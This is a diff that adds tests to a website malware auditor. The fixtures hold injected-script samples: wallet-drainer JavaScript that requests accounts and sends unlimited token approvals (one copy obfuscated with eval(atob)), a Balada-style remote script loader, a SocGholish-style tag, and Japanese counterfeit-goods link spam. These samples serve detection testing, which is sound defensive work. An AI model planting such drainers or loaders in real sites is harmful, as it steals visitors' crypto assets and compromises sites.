@@ -14,9 +14,10 @@ import base64
 import pytest
 
 from auditor.heuristics import FINDING_KINDS
+from auditor.heuristics.behaviour import before_doctype
 from auditor.model import PageReport, Severity
 
-from .conftest import AuditListed
+from .conftest import AuditHtml, AuditListed
 
 H, M, L = Severity.HIGH, Severity.MEDIUM, Severity.LOW
 SITE = "https://www.harbourgazette.example"
@@ -1297,3 +1298,297 @@ def test_every_link_rewritten_through_another_site_is_click_hijacking(
     report = audit_listed(wp_page(footer=f"<script>{code}</script>"), URL)
     found = [f.severity for f in report.findings if f.kind == "redirect"]
     assert found == ([severity] if severity else []), report.findings
+
+
+# --- wallet drainers: a kit connects the wallet and asks for an approval ---------------
+# The forms of the drainer write-ups (Sucuri's and Blockaid's on Angel and Inferno
+# Drainer injected into WordPress sites): on load, ask for the accounts, then send an
+# ERC-20 `approve` by its selector (0x095ea7b3) granting a spender every token, or call
+# `setApprovalForAll` through ethers; addresses and hosts made up.
+_SPENDER = "0x5e1f0000000000000000000000000000000a11ce"
+DRAINER_SELECTOR = (
+    "<script>(async()=>{if(!window.ethereum)return;try{const a=await window.ethereum.request("
+    "{method:'eth_requestAccounts'});const d='0x095ea7b3'+'" + _SPENDER[2:] + "'.padStart(64,"
+    "'0')+'f'.repeat(64);await window.ethereum.request({method:'eth_sendTransaction',params:"
+    "[{from:a[0],to:'0x00000000000000000000000000000000000000aa',data:d}]});}catch(e){}})();"
+    "</script>")
+_DRAINER_NFT_CODE = (
+    "(async function(){const p=new ethers.providers.Web3Provider(window.ethereum);await p.send("
+    "'eth_requestAccounts',[]);const c=new ethers.Contract('0x00000000000000000000000000000000"
+    "000000bb',['function setApprovalForAll(address,bool)'],p.getSigner());await c."
+    "setApprovalForAll('" + _SPENDER + "',true);})();")
+DRAINER_ENCODED = "<script>eval(atob('" + _b64(_DRAINER_NFT_CODE) + "'));</script>"
+DRAINER_PLAIN_NFT = "<script>" + _DRAINER_NFT_CODE + "</script>"
+# a crypto news site's article: it shows wallet words, so only a mark makes code high
+_CRYPTO_PROSE = ("<p>Ethereum wallets saw record airdrop claims this week as the NFT market "
+                 "recovered.</p>")
+
+DRAINERS: list[tuple[str, dict[str, str]]] = [
+    ("approve by selector on load, in the post of a news article", {"post": DRAINER_SELECTOR}),
+    ("setApprovalForAll, wp_footer of a news article", {"footer": DRAINER_PLAIN_NFT}),
+    ("setApprovalForAll in base64, a crypto article", {"post": _CRYPTO_PROSE,
+                                                       "footer": DRAINER_ENCODED}),
+    ("approve after </html>, a crypto article", {"post": _CRYPTO_PROSE,
+                                                 "after": DRAINER_SELECTOR}),
+]
+
+
+@pytest.mark.parametrize(("name", "where"), DRAINERS, ids=[d[0] for d in DRAINERS])
+def test_an_injected_wallet_drainer_is_high(name: str, where: dict[str, str],
+                                            audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(**where), URL)
+    found = [(f.kind, f.severity) for f in report.findings]
+    assert ("wallet-drainer", H) in found, found
+    drainer = next(f for f in report.findings if f.kind == "wallet-drainer")
+    assert "wallet drainer" in drainer.message and "<script" not in drainer.message
+
+
+# a dapp's own page: a swap page approves its router when the visitor clicks
+_DAPP = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Harbourswap</title>
+</head><body><div id="app"><header>Harbourswap</header><button id="connect">Connect wallet
+</button><section class="swap"><h2>Swap tokens on Ethereum</h2><input id="amount"></section>
+</div><script>document.getElementById('connect').onclick=async()=>{const [a]=await
+ethereum.request({method:'eth_requestAccounts'});const t=new ethers.Contract(TOKEN,ERC20_ABI,
+signer);await t.approve(ROUTER,amount);};</script></body></html>"""
+# a dapp's shell as saved before its bundle renders: no wallet word shown yet
+_DAPP_SHELL = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Harbourswap
+</title></head><body><div id="root"><button id="go">Connect</button> <span>Swap</span></div>
+<script>document.getElementById('go').onclick=async()=>{await ethereum.request({method:
+'eth_requestAccounts'});await token.approve(ROUTER,amount);};</script></body></html>"""
+# a wallet tutorial shows the calls as code, runs none
+_TUTORIAL = ("<p>To connect MetaMask, ask for the accounts, then approve the spender:</p><pre>"
+             "<code>await ethereum.request({ method: 'eth_requestAccounts' });\nawait token."
+             "approve(spender, amount);</code></pre>")
+# a blogger's tip jar: a payment, no approval
+_TIP_JAR = (
+    "<p>Enjoyed this? Tip the author in crypto.</p><button id='tip'>Tip 0.01 ETH</button>"
+    "<script>document.getElementById('tip').onclick=async()=>{const [a]=await ethereum.request"
+    "({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',"
+    "params:[{from:a,to:'0x00000000000000000000000000000000000000cc',value:'0x2386f26fc10000'}]"
+    "});};</script>")
+# a crypto site's article embedding a mint widget that approves its own contract
+_MINT_WIDGET = (
+    _CRYPTO_PROSE + "<div class='mint-widget'><button id='mint'>Connect wallet and mint"
+    "</button></div><script>document.getElementById('mint').onclick=async()=>{await ethereum"
+    ".request({method:'eth_requestAccounts'});await usdc.approve(MINTER,price);await minter."
+    "mint(1);};</script>")
+
+
+@pytest.mark.parametrize(("name", "page", "url", "severity"), [
+    ("a dapp's swap page approving its router", _DAPP, "https://app.harbourswap.example/", None),
+    ("a dapp's shell showing no wallet word", _DAPP_SHELL, "https://app.harbourswap.example/",
+     None),
+    ("a wallet tutorial's code sample", wp_page(post=_TUTORIAL), URL, None),
+    ("a blog's tip jar (a payment)", wp_page(post=_TIP_JAR), URL, None),
+    ("a crypto article's own mint widget", wp_page(post=_MINT_WIDGET), URL, M),
+], ids=["dapp", "dapp shell", "tutorial", "tip jar", "mint widget"])
+def test_a_legitimate_wallet_page_is_below_high(name: str, page: str, url: str,
+                                                severity: Severity | None,
+                                                audit_listed: AuditListed) -> None:
+    found = [f for f in audit_listed(page, url).findings if f.kind == "wallet-drainer"]
+    assert [f.severity for f in found] == ([severity] if severity else []), found
+
+
+# --- the Japanese keyword hack: hidden links to the site's own counterfeit-goods pages --
+# The form of Google Search Central's "Fix the Japanese keyword hack" and Sucuri's
+# write-ups: pages the hacked site now serves itself (`/?p7x2=12034`, `/jp/item.php?id=`),
+# linked from a hidden block whose anchors sell fake brand goods.
+JP_HACK_NONE = (
+    '<div style="display:none"><a href="/?p7x2=12034">ルイヴィトン 財布 スーパーコピー</a> '
+    '<a href="/?p7x2=12035">シャネル バッグ 偽物 激安</a> <a href="/jp/item.php?id=88">ロレックス'
+    ' N級品 通販</a> <a href="/?p7x2=12036">エルメス コピー 代引き</a></div>')
+JP_HACK_OFFSCREEN = (
+    '<p style="position:absolute;left:-8000px"><a href="' + SITE + '/item.php?g=41">グッチ '
+    '激安 通販</a><a href="' + SITE + '/item.php?g=42">プラダ 財布 格安</a><a href="' + SITE
+    + '/item.php?g=43">コーチ バッグ 激安</a></p>')
+# the same hack linking other hacked sites' pages: a link farm that names its family
+JP_HACK_OFFSITE = (
+    '<div style="height:0;overflow:hidden"><a href="https://lakeside-bakery.test/?k=1">'
+    'ルイヴィトン スーパーコピー</a><a href="https://oakridgeyoga.test/?k=2">ロレックス 偽物</a>'
+    '<a href="https://mountainviewdental.test/?k=3">シャネル N級品</a></div>')
+
+
+@pytest.mark.parametrize(("name", "where", "said"), [
+    ("first-party counterfeit pages, display:none, wp_footer", {"footer": JP_HACK_NONE},
+     "Japanese keyword hack"),
+    ("first-party bargain pages off-screen on an English page, in the post",
+     {"post": JP_HACK_OFFSCREEN}, "Japanese keyword hack"),
+    ("other hacked sites' counterfeit pages, collapsed, widget", {"widget": JP_HACK_OFFSITE},
+     "Japanese keyword hack"),
+], ids=["display-none", "off-screen bargains", "off-site"])
+def test_the_japanese_keyword_hack_is_a_high_hidden_link_block(
+        name: str, where: dict[str, str], said: str, audit_listed: AuditListed) -> None:
+    found = [f for f in audit_listed(wp_page(**where), URL).findings if f.kind == "hidden-links"]
+    assert [f.severity for f in found] == [H], found
+    assert said in found[0].message
+
+
+_JA_SITE = "https://www.minato-shimbun.example"
+_JA_PROSE = "港湾議会は火曜日、冬のフェリー時刻表を可決した。"
+
+
+def _ja_page(body: str) -> str:
+    """A Japanese news or shop page of the site's own."""
+    return (f'<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>港新聞</title>'
+            f'</head><body><main><article class="post"><h1>フェリー冬ダイヤ決定</h1><div '
+            f'class="entry-content"><p>{_JA_PROSE * 12}</p></div></article></main>{body}'
+            '</body></html>')
+
+
+# a Japanese news site's many visible links, a shop's hidden sale links on its own
+# Japanese page, an office shop's hidden copier links, an article quoting the hack
+_JA_NEWS_LINKS = "<ul class='ranking'>" + "".join(
+    f"<li><a href='/articles/{n}'>ニュース{n} 激安航空券の販売が好調</a></li>"
+    for n in range(40)) + "</ul>"
+_JA_SHOP_HIDDEN = ("<div style='display:none'><a href='/sale/1'>激安セール</a><a href='/sale/2'>"
+                   "格安パック</a><a href='/sale/3'>通販限定</a></div>")
+_JA_COPIERS = ("<div style='display:none'><a href='/c/1'>コピー機 リース</a><a href='/c/2'>"
+               "コピー用紙 A4</a><a href='/c/3'>コピーライト表示</a></div>")
+_JA_QUOTED = ("<p>被害サイトには「ルイヴィトン スーパーコピー」「ロレックス 偽物」などのリンクが"
+              "大量に追加される。</p><ul><li><a href='/kb/1'>スーパーコピー対策</a></li><li>"
+              "<a href='/kb/2'>偽物リンクの削除</a></li><li><a href='/kb/3'>N級品スパムの見分け方"
+              "</a></li></ul>")
+
+
+@pytest.mark.parametrize("body", [_JA_NEWS_LINKS, _JA_SHOP_HIDDEN, _JA_COPIERS, _JA_QUOTED],
+                         ids=["news links", "shop's hidden sale links", "copiers", "quoted"])
+def test_japanese_pages_own_links_are_no_keyword_hack(body: str,
+                                                     audit_listed: AuditListed) -> None:
+    report = audit_listed(_ja_page(body), _JA_SITE + "/2026/11/ferry/")
+    assert [f for f in report.findings if f.kind == "hidden-links"] == []
+
+
+# --- Balada Injector's plain loader before the doctype --------------------------------
+# Sucuri's Balada write-ups: the payload stored in `wp_options` (a widget's or a theme's
+# option) is echoed before `<!DOCTYPE html>`, a plain `currentScript` loader of a rotating
+# domain; in `<head>` the same loader is what any vendor's async tag looks like.
+BALADA_PLAIN = (
+    "<script>var s=document.createElement('script');s.src='https://stay.linestoget.test/"
+    "scripts/check.js?v=9';if(document.currentScript){document.currentScript.parentNode."
+    "insertBefore(s,document.currentScript);}else{document.getElementsByTagName('head')[0]."
+    "appendChild(s);}</script>")
+_CHAT_TAG = '<script async src="https://widget.kiwichat.example/loader.js?id=77121"></script>'
+
+
+@pytest.mark.parametrize(("page", "severity", "where"), [
+    (BALADA_PLAIN + wp_page(), H, "<!DOCTYPE>"),
+    (BALADA_PLAIN + "\n" + wp_page(), H, "<!DOCTYPE>"),
+    (_CHAT_TAG + wp_page(), H, "<!DOCTYPE>"),
+    # the same tags after `</html>`: a widget pasted at the file's end reads alike
+    (wp_page(after=BALADA_PLAIN), M, "</html>"),
+    (wp_page(after=_CHAT_TAG), M, "</html>"),
+], ids=["balada on the doctype's line", "balada before the doctype", "a tag before the "
+        "doctype", "balada after </html>", "a chat widget after </html>"])
+def test_a_script_before_the_doctype_is_high(page: str, severity: Severity, where: str,
+                                            audit_listed: AuditListed) -> None:
+    found = [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
+    assert [f.severity for f in found] == [severity], found
+    assert where in found[0].message
+
+
+def test_a_script_in_the_head_or_a_doctype_in_a_string_is_not_before_the_doctype(
+        audit_listed: AuditListed) -> None:
+    """The plain loader in `<head>` is no finding (any vendor's tag reads so), and a
+    doctype in a script's string before the page's start is not the page's."""
+    assert audit_listed(wp_page(head=BALADA_PLAIN), URL).findings == ()
+    written = ("<script>document.write('<!DOCTYPE html>');</script>"
+               "<!-- cached page --><!DOCTYPE html>")
+    line, prefix = before_doctype(written)
+    assert line == 1 and prefix.endswith("<!-- cached page -->")
+
+
+# --- a link farm appended after `</html>`, shown or not -------------------------------
+# A hacked server's output filter appends a sitemap-like block of the hack's pages after
+# the closing tag (Sucuri's "SEO spam appended to the page"): a browser shows it at the
+# body's end, so no hiding style marks it, its place does.
+_JP_SITEMAP = "<div class='sitemap'>" + "".join(
+    f"<a href='/?p7x2={12000 + n}'>ルイヴィトン 財布 スーパーコピー {n}</a> " for n in range(12)
+) + "</div>"
+_FARM_LOOSE = " ".join(f"<a href='https://casino-bonus-{n}.test/'>online casino {n}</a>"
+                       for n in range(5))
+# a theme's credits printed after `</html>` by a plugin: two sites, no farm
+_CREDITS_AFTER = ("<p class='credits'>Proudly powered by <a href='https://wordpress.org/'>"
+                  "WordPress</a> | Theme: <a href='https://themes.example.net/gazette'>Gazette"
+                  "</a> | <a href='/privacy/'>Privacy</a> <a href='/contact/'>Contact</a></p>")
+
+
+@pytest.mark.parametrize(("after", "said"), [
+    (_JP_SITEMAP, "Japanese keyword hack"),
+    (_FARM_LOOSE, "5 off-site links"),
+    (JP_HACK_NONE, "Japanese keyword hack"),  # hidden and appended: one finding
+], ids=["the site's own counterfeit pages", "loose casino links", "hidden and appended"])
+def test_a_link_farm_after_the_closing_html_is_high_shown_or_not(
+        after: str, said: str, audit_listed: AuditListed) -> None:
+    found = [f for f in audit_listed(wp_page(after=after), URL).findings
+             if f.kind == "hidden-links"]
+    assert [f.severity for f in found] == [H], found
+    assert said in found[0].message
+
+
+# an old site's counter badges printed after `</html>`: each links its counter's site
+_COUNTERS_AFTER = (
+    "<a href='https://www.liveinternet.ru/click'><img src='https://counter.yadro.ru/hit?t14.6'"
+    " alt='' width='88' height='31'></a><a href='https://top.mail.ru/jump?from=3312345'><img "
+    "src='https://top-fwz1.mail.ru/counter?id=3312345;t=479' width='88' height='31'></a>"
+    "<a href='https://statcounter.com/' target='_blank'><img src='https://c.statcounter.com/"
+    "12345678/0/abcd1234/0/' alt='web counter'></a>")
+
+
+@pytest.mark.parametrize("after", [_CREDITS_AFTER, _COUNTERS_AFTER],
+                         ids=["a theme's credits", "counter badges"])
+def test_a_sites_own_links_after_the_closing_html_are_no_farm(
+        after: str, audit_listed: AuditListed) -> None:
+    """Two other sites' credit links, the site's own pages and counters' badges (vendors
+    the catalogue knows) are no farm."""
+    assert [f for f in audit_listed(wp_page(after=after), URL).findings
+            if f.kind == "hidden-links"] == []
+
+
+# --- SocGholish's plain report tag: parameters in base64 --------------------------------
+# The injected tag of the SocGholish write-ups (Sucuri, Proofpoint): an async script on a
+# compromised site's subdomain, `…/report?r=` with base64 of `v=…&cid=…`; made-up host.
+SOCGHOLISH_REPORT = ("<script async src='https://content.westbridgeinsurance.test/report?r="
+                     + _b64("v=2&cid=263&sid=1") + "'></script>")
+
+
+@pytest.mark.parametrize(("where", "kind", "severity"), [
+    ({"head": SOCGHOLISH_REPORT}, "tds-loader", M),
+    ({"after": SOCGHOLISH_REPORT}, "appended-script", H),
+], ids=["in the head", "after </html>"])
+def test_a_script_tag_with_its_parameters_in_base64_is_a_tds_tag(
+        where: dict[str, str], kind: str, severity: Severity,
+        audit_listed: AuditListed) -> None:
+    found = [(f.kind, f.severity) for f in audit_listed(wp_page(**where), URL).findings
+             if f.kind in ("tds-loader", "appended-script")]
+    assert found == [(kind, severity)]
+
+
+def test_a_script_tag_with_its_parameters_in_base64_in_a_post_body_is_high(
+        audit_html: AuditHtml) -> None:
+    report = audit_html("<p>Ferry news.</p>" + SOCGHOLISH_REPORT, URL, in_post_body=True)
+    assert [(f.kind, f.severity) for f in report.findings if f.kind == "tds-loader"] == [
+        ("tds-loader", H)]
+
+
+@pytest.mark.parametrize("src", [
+    # an ad server's base64 JSON, a cache-busting token, a plain parameter
+    "https://ads.harbourmedia.example/serve.js?d=" + _b64('{"zone":12,"size":"300x250"}'),
+    "https://widgets.tidewatch.example/embed.js?v=u4nGqDg4NmNLSQ==",
+    "https://widgets.tidewatch.example/embed.js?cid=263&v=2",
+], ids=["base64 JSON", "a token", "plain parameters"])
+def test_a_script_tag_whose_parameters_are_no_encoded_parameters_is_no_tds(
+        src: str, audit_listed: AuditListed) -> None:
+    page = wp_page(head=f"<script async src='{src}'></script>")
+    assert [f for f in audit_listed(page, URL).findings if f.kind == "tds-loader"] == []
+
+
+def test_an_article_written_after_the_closing_html_is_no_farm(audit_listed: AuditListed
+                                                             ) -> None:
+    """A page saved twice, its second copy after the first's `</html>`: prose with a few
+    partner links in it is an article, not a farm."""
+    second = ("<div class='entry-content'>" + _PARA + "<p>Timetables from <a href='https://"
+              "ferries-north.test/'>North Ferries</a>, <a href='https://islandlink.test/'>"
+              "Island Link</a> and <a href='https://baybus.test/'>Bay Bus</a>.</p>" + _PARA
+              + "</div>")
+    assert [f for f in audit_listed(wp_page(after=second), URL).findings
+            if f.kind == "hidden-links"] == []
